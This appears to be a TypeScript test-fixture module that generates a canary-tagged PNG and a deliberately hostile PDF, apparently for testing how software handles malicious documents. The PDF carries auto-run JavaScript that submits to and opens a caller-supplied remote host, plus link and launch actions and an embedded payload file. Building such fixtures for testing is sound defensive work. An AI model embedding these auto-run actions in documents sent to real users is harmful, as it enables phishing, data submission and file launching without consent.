import { crc32, deflateSync } from 'node:zlib';

/** A 16×16 PNG of one colour with a tEXt chunk carrying `canary` (so a plaintext copy can be found by scanning). */
export function pngWithCanary(canary: string, rgb: readonly [number, number, number] = [200, 30, 30]): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const len = Buffer.alloc(4);
    len.writeUInt32BE(data.length);
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([len, body, crc]);
  };
  const size = 16;
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(size, 0);
  ihdr.writeUInt32BE(size, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  const row = Buffer.concat([Buffer.from([0]), Buffer.from(Array.from({ length: size }, () => [...rgb]).flat())]);
  const pixels = deflateSync(Buffer.concat(Array.from({ length: size }, () => row)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', ihdr),
    chunk('tEXt', Buffer.from(`Comment\0${canary}`, 'latin1')),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

/**
 * A hostile PDF: a JavaScript open action (alert, then a submit and a URL launch to `remote`), a
 * link annotation over the whole page pointing at `remote`, a launch action, and an embedded file.
 * The page draws `canary` as plain (uncompressed) text, so a plaintext copy on disk is findable.
 */
export function hostilePdf(canary: string, remote: string): Buffer {
  const js = `app.alert('pwned'); this.submitForm('${remote}/submit'); app.launchURL('${remote}/launch', true); this.exportDataObject({ cName: 'payload.txt', nLaunch: 2 });`;
  const content = `BT /F1 24 Tf 72 700 Td (${canary}) Tj ET`;
  const embedded = 'echo owned';
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /Names << /EmbeddedFiles << /Names [(payload.txt) 7 0 R] >> /JavaScript << /Names [(auto) 5 0 R] >> >> /AA << /WC 5 0 R >> >>`,
    `<< /Type /Pages /Kids [3 0 R] /Count 1 >>`,
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 6 0 R >> >> /Annots [9 0 R 10 0 R] /AA << /O 5 0 R >> >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    `<< /Type /Action /S /JavaScript /JS (${js}) >>`,
    `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>`,
    `<< /Type /Filespec /F (payload.txt) /EF << /F 8 0 R >> >>`,
    `<< /Type /EmbeddedFile /Length ${embedded.length} >>\nstream\n${embedded}\nendstream`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /Border [0 0 0] /A << /S /URI /URI (${remote}/link) >> >>`,
    `<< /Type /Annot /Subtype /Link /Rect [0 0 612 400] /A << /S /Launch /F (payload.txt) >> >>`,
  ];
  let out = '%PDF-1.7\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}
